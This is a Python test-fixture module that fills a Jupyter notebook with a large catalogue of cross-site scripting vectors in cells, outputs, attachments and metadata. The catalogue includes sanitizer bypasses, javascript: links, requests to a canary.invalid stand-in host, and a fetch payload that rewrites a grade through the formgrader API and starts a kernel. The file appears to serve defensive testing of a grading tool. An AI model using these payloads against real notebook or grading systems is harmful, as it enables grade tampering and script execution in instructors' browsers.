# ruff: noqa: E501 (vectors are data)
"""What students could write that a browser would run or fetch, by where it stands in a notebook.

Written here, from the known classes: script, event handlers, addresses that are code, foreign
namespaces, mutation, styles, frames and forms, vendors' output types, TeX, Markdown. Each tries a
dialog, a request to a machine that does not exist, or, as an instructor's browser may, to change a
grade and to start a kernel.
"""

from __future__ import annotations

import json
from typing import Any

import nbformat

CANARY = "https://canary.invalid"
RUN = "alert(document.domain)"
WRITE = "fetch('/formgrader/api/grade/1',{method:'PUT',body:'{\"manual_score\":99}'});fetch('/api/kernels',{method:'POST',body:'{}'})"
CODE = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
DRAWN = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script><image href='https://canary.invalid/s.png'/></svg>"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script-src": f"<script src={CANARY}/a.js></script>",
    "script-writes": f"<script>{WRITE}</script>",
    "script-module": f"<script type=module>{RUN}</script>",
    "script-case": f"<ScRiPt >{RUN}</sCrIpT >",
    "script-in-script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-slash": f"<script/x>{RUN}</script>",
    "img-onerror": f"<img src=x onerror={RUN}>",
    "img-onerror-slash": f"<img/src=x/onerror={RUN}>",
    "img-onerror-newline": f"<img\nsrc=x\nonerror\n=\n{RUN}>",
    "img-onerror-entity": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "img-backquote": f"<img src=`x` onerror=`{RUN}`>",
    "img-fetch": f"<img src={CANARY}/i.png>",
    "img-srcset": f"<img srcset='{CANARY}/i.png 1x'>",
    "img-unclosed": f"<img src=x onerror={RUN} ",
    "img-double": f'<img """><script>{RUN}</script>">',
    "picture-source": f"<picture><source srcset={CANARY}/p.png><img src=x></picture>",
    "svg-onload": f"<svg onload={RUN}></svg>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg-use": f"<svg><use href='{CANARY}/u.svg#x'/></svg>",
    "svg-image": f"<svg><image href='{CANARY}/i.svg'/></svg>",
    "svg-set-href": "<svg><a><set attributeName=href to=javascript:alert(1)></set><text y=20>x</text></a></svg>",
    "svg-foreign": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "svg-style": f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    "math-action": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "math-mtext": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    "math-annotation": f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    "noscript-mutation": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    "form-mutation": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "template-mutation": f"<template><p title=\"</template><img src=x onerror={RUN}>\"></template>",
    "select-mutation": f"<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={RUN}>\">",
    "textarea-break": f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    "title-break": f"<title></title><img src=x onerror={RUN}>",
    "xmp-break": f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\">",
    "comment-break": f"<!--><img src=x onerror={RUN}>-->",
    "comment-bang": f"<!-- --!><img src=x onerror={RUN}> -->",
    "cdata-break": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "processing": f"<?xml ><img src=x onerror={RUN}>?>",
    "null-letter": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x o\0nerror={RUN}>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>top.{RUN}</script>'></iframe>",
    "iframe-javascript": "<iframe src=javascript:top.alert(1)></iframe>",
    "iframe-data": f"<iframe src='{CODE}'></iframe>",
    "iframe-fetch": f"<iframe src={CANARY}/f.html></iframe>",
    "object-data": f"<object data='{CODE}'></object>",
    "object-fetch": f"<object data={CANARY}/o.svg></object>",
    "embed": f"<embed src='{CANARY}/e.svg'>",
    "base": f"<base href={CANARY}/><img src=b.png>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={CANARY}/m'>",
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "link-style": f"<link rel=stylesheet href={CANARY}/l.css>",
    "link-prefetch": f"<link rel=prefetch href={CANARY}/p>",
    "form-autofocus": f"<form action={CANARY}/x><input autofocus onfocus={RUN}></form>",
    "button-formaction": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "details-toggle": f"<details open ontoggle={RUN}>x</details>",
    "video-error": f"<video><source onerror={RUN}></video>",
    "audio-fetch": f"<audio src={CANARY}/a.ogg autoplay></audio>",
    "video-poster": f"<video poster={CANARY}/v.png></video>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "body-onload": f"<body onload={RUN}>",
    "animation-end": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationend={RUN}>x</b>",
    "style-import": f"<style>@import '{CANARY}/s.css';</style>",
    "style-element": f"<style>body{{background:url({CANARY}/b.png)}}</style>",
    "style-attribute": f"<p style='background:url({CANARY}/c.png)'>x</p>",
    "style-escaped": f"<p style='background:u\\72l({CANARY}/d.png)'>x</p>",
    "style-image-set": f"<p style='background-image:image-set(\"{CANARY}/e.png\" 1x)'>x</p>",
    "style-list": f"<ul style='list-style:url({CANARY}/f.png)'><li>x</ul>",
    "style-cover": "<div style='position:fixed;inset:0;z-index:99999'>covered</div>",
    "table-background": f"<table background={CANARY}/t.png><tr><td background={CANARY}/u.png>x</table>",
    "clobbered": "<a id=base_url></a><form id=formgrader name=formgrader><input name=loadGrades></form>",
    "borrowed-class": "<b class='mark-graded full-credit score tabbable' data-link='x'>x</b>",
    "lab-command": "<button data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}' autofocus>x</button>",
    "a-javascript": "<a href=javascript:alert(1)>x</a>",
    "a-tabbed": "<a href='java\tscript:alert(1)'>x</a>",
    "a-entity": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "a-data": f"<a href='{CODE}'>x</a>",
    "a-ping": f"<a href=https://example.org ping={CANARY}/p>x</a>",
    "a-xlink": "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "custom-element": f"<x-y onpointerenter={RUN} tabindex=1 onfocus={RUN} autofocus>x</x-y>",
    "attribute-end": f"<p title='\"><img src=x onerror={RUN}>'>x</p>",
    "closing": f"</div></div></body></html><script>{RUN}</script>",
    "plaintext": f"<plaintext><img src=x onerror={RUN}>",
    "img-svg-data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}  # fmt: skip

MARKDOWN = {
    "link-javascript": "[x](javascript:alert(1))",
    "link-case": "[x](JaVaScRiPt:alert(1))",
    "link-entity": "[x](&#106;avascript:alert(1)) [x](javascript&colon;alert(1))",
    "link-angle": "[x](<javascript:alert(1)>)",
    "link-newline": "[x](\njavascript:alert(1))",
    "link-data": f"[x]({CODE})",
    "link-vbscript": "[x](vbscript:x)",
    "link-relative": "[x](evil.html) [x](/api/shutdown)",
    "link-title": f"[x](https://example.org \"\"onmouseover={RUN} x=\")",
    "reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "reference-newline": "[x][y]\n\n[y]:\n  javascript:alert(1)",
    "reference-footnote": "[^y]\n\n[^y]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
    "autolink-data": f"<{CODE}>",
    "image": f"![x]({CANARY}/i.png)",
    "image-reference": f"![x][y]\n\n[y]: {CANARY}/r.png",
    "image-shortcut": f"![y]\n\n[y]: {CANARY}/q.png",
    "image-angle": f"![x](<{CANARY}/a.png>)",
    "image-protocol-relative": "![x](//canary.invalid/p.png)",
    "image-relative": "![x](/api/kernels)",
    "image-alt": f"![\"onerror={RUN} x=\"](x)",
    "image-in-link": f"[![x]({CANARY}/l.png)](javascript:alert(1))",
    "image-svg-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "attachment-missing": "![x](attachment:nowhere.png)",
    "html-in-list": f"- a\n\n  <img src=x onerror={RUN}>",
    "html-after-code": f"`` ` `` <img src=x onerror={RUN}>",
    "html-in-fence-end": f"```\n```<img src=x onerror={RUN}>\n```",
    "html-in-unclosed-code": f"`<img src=x onerror={RUN}>",
    "html-in-table": f"| a |\n| - |\n| <img src=x onerror={RUN}> |",
    "html-in-heading": f"# <img src=x onerror={RUN}>",
    "html-in-math": f"$<img src=x onerror={RUN}>$ $$<script>{RUN}</script>$$",
    "html-in-environment": f"\\begin{{a}}<img src=x onerror={RUN}>\\end{{a}}",
    "html-escaped-twice": f"\\<img src=x onerror={RUN}\\>",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "heading-id": "###### who-counts-more\n\nwho-counts-more\n---\n\n> # who-counts-more-comment\n\n- ## notebook",
    "mermaid": "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]; click A \"javascript:alert(1)\"\n```",
    "tex-href": "$\\href{javascript:alert(1)}{x}$",
    "tex-href-entity": "&#36;\\&#104;ref{javascript:alert(1)}{x}&#36;",
    "tex-backslash-entity": "$&#92;href{javascript:alert(1)}{x}$",
    "tex-unicode": "$\\unicode[';}</style><img src=x onerror=alert(1)>]{x61}$",
    "tex-require": "$\\require{html}\\cssId{base_url}{x}\\class{full-credit}{x}\\style{position:fixed}{x}$",
    "tex-macro": "$\\def\\a#1{\\href{javascript:alert(1)}{#1}}\\a{x}$ $\\let\\b\\href\\b{javascript:alert(1)}{x}$",
    "tex-csname": "$\\csname href\\endcsname{javascript:alert(1)}{x}$",
    "tex-bbox": f"$\\bbox[background:url({CANARY}/t.png)]{{x}}$",
    "tex-includegraphics": f"$\\includegraphics{{{CANARY}/g.png}}$",
    "www": "www.canary.invalid javascript:alert(1)",
}  # fmt: skip

OUTPUTS: dict[str, dict[str, Any]] = {
    "javascript": {"application/javascript": RUN},
    "text-javascript": {"text/javascript": RUN},
    "ecmascript": {"application/ecmascript": RUN},
    "svg": {"image/svg+xml": DRAWN},
    "latex": {"text/latex": f"<img src=x onerror={RUN}> $\\href{{javascript:alert(1)}}{{x}}$"},
    "heading-id": {"text/markdown": "# who-counts-more", "text/plain": "a heading"},
    "markdown": {"text/markdown": f"[x](javascript:alert(1)) <img src=x onerror={RUN}>"},
    "png-breaks-out": {"image/png": f"\"><img src=x onerror={RUN}>"},
    "jpeg-breaks-out": {"image/jpeg": f"'/><script>{RUN}</script>"},
    "png-is-a-list": {"image/png": ["\">", f"<script>{RUN}</script>"]},
    "gif-is-html": {"image/gif": "PHNjcmlwdD4="},
    "pdf": {"application/pdf": "JVBERi0x"},
    "json": {"application/json": {"a": f"</script><img src=x onerror={RUN}>"}},
    "json-link": {"application/json": {"a": "javascript:alert(1)"}},
    "geojson": {"application/geo+json": {"type": "Point", "coordinates": [0, 0]}},
    "vega": {"application/vnd.vegalite.v5+json": {"data": {"url": f"{CANARY}/v.csv"}, "mark": "bar"}},
    "vega-expression": {"application/vnd.vega.v5+json": {"signals": [{"name": "x", "init": "event.view.alert(1)"}], "marks": []}},
    "plotly": {"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": f"{CANARY}/p.png"}]}}},
    "widget-view": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)</script>", "version_major": 2}},
    "widget-state": {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_module": f"{CANARY}/m.js"}}}},
    "bokeh": {"application/vnd.bokehjs_exec.v0+json": {"id": "x"}, "application/vnd.bokehjs_load.v0+json": RUN},
    "holoviews": {"application/vnd.holoviews_exec.v0+json": "x"},
    "mermaid": {"text/vnd.mermaid": "graph TD; A-->B; click A \"javascript:alert(1)\""},
    "fasta": {"application/vnd.fasta.fasta": "x"},
    "xml": {"application/xml": f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>"},
    "xhtml": {"application/xhtml+xml": f"<script>{RUN}</script>"},
    "odd-type": {"text/html;charset=utf-7": "+ADw-script+AD4-alert(1)", "TEXT/HTML": f"<script>{RUN}</script>"},
    "type-is-html": {f"<img src=x onerror={RUN}>": "x"},
    "plain": {"text/plain": f"<img src=x onerror={RUN}>\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07"},
    "plain-ansi": {"text/plain": f"\x1b[31;1m<b onclick={RUN}>\x1b[38;5;1;\"onmouseover={RUN}m x\x1b[0m"},
}  # fmt: skip
ISOLATED = {
    "text/html": {"isolated": True},
    "image/png": {"width": f"1 onerror={RUN}", "alt": '"><img src=x onerror=alert(1)>'},
}
PRINTED = (
    f"<script>{RUN}</script>\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\ \x1b[2J \x9d8;;x\x9c"
)
NAMES = {
    "raw-cell": {"cell_type": "raw", "source": HTML["img-onerror"], "metadata": {"raw_mimetype": "text/html"}},
    "raw-cell-bare": {"cell_type": "raw", "source": HTML["script"], "metadata": {}},
    "attached-svg": {"cell_type": "markdown", "source": "![x](attachment:a.svg)", "metadata": {}, "attachments": {"a.svg": {"image/svg+xml": DRAWN}}},
    "attached-html": {"cell_type": "markdown", "source": "![x](attachment:a.png)", "metadata": {}, "attachments": {"a.png": {"text/html": HTML["script"]}}},
    "attached-breaks-out": {"cell_type": "markdown", "source": "![x](attachment:a.png)", "metadata": {}, "attachments": {"a.png": {"image/png": f"\"><img src=x onerror={RUN}>"}}},
    "attached-type": {"cell_type": "markdown", "source": "![x](attachment:b.png)", "metadata": {}, "attachments": {"b.png": {f"\"><img src=x onerror={RUN}>": "x"}}},
    "attached-name": {"cell_type": "markdown", "source": f"![x](attachment:<img src=x onerror={RUN}>)", "metadata": {}, "attachments": {f"<img src=x onerror={RUN}>": {"image/png": "x"}}},
    "grade-id": {"cell_type": "markdown", "source": "x", "metadata": {"nbgrader": {"grade_id": f"\"><img src=x onerror={RUN}>", "grade": True, "solution": True, "locked": False, "points": 1, "schema_version": 3, "task": False}}},
    "tags": {"cell_type": "code", "source": "1", "outputs": [], "execution_count": None, "metadata": {"tags": [f"\"><img src=x onerror={RUN}>"], "magics_language": "<script>", "alt": f"\"><img src=x onerror={RUN}>"}},
}  # fmt: skip
NOTEBOOK = {
    "kernelspec": {"name": f"<script>{RUN}</script>", "display_name": f"<img src=x onerror={RUN}>", "language": "x"},
    "language_info": {"name": f"\"><script>{RUN}</script>", "pygments_lexer": "<x>", "codemirror_mode": {"name": "javascript"}},
    "title": f"</title><script>{RUN}</script>",
    "authors": [{"name": HTML["img-onerror"]}],
    "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_module": f"{CANARY}/m.js", "model_name": "</script><script>alert(1)</script>", "state": {}}}, "version_major": 2, "version_minor": 0}},
}  # fmt: skip
FILES = {
    "evil.html": f"<script>{RUN}</script>",
    "evil.svg": DRAWN,
    "evil.xhtml": f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>",
    "data.csv": "a,b\n1,2\n",
    "debugpy.py": "open('/tmp/autograde-canary', 'w')",
    "second.ipynb": "{}",
}
COUNT = len(HTML) + len(MARKDOWN) + len(OUTPUTS) + len(NAMES) + len(NOTEBOOK) + len(FILES)


def fill(notebook: nbformat.NotebookNode, answer: str) -> None:
    """Put all of it into a notebook: beside its cells, and into one written answer of it."""
    v4 = nbformat.v4
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == answer:
            cell.source = "\n\n".join([HTML["script-writes"], *list(MARKDOWN.values())[:40]])
    for name, vector in {**HTML, **MARKDOWN}.items():
        notebook.cells.append(v4.new_markdown_cell(f"{name}\n\n{vector}\n"))
    shown = [*({"text/html": html} for html in HTML.values()), *OUTPUTS.values()]
    about = f"__import__('json').loads({json.dumps(shown)!r})"
    notebook.cells.append(v4.new_code_cell(
        "from IPython.display import publish_display_data as show\n"
        f"for data in {about}:\n    show(data, metadata={ISOLATED!r})"
    ))  # fmt: skip
    notebook.cells.append(v4.new_code_cell(f"print({PRINTED!r})"))
    notebook.cells.append(v4.new_code_cell(
        f"raise type({HTML['script']!r}, (Exception,), {{}})({PRINTED!r})"
    ))  # fmt: skip
    notebook.cells += [nbformat.from_dict(cell) for cell in NAMES.values()]
    notebook.metadata.update(nbformat.from_dict(NOTEBOOK))
    for number, cell in enumerate(notebook.cells):
        cell["id"] = cell.get("id") or f"cell-{number}"
    notebook.nbformat_minor = 5
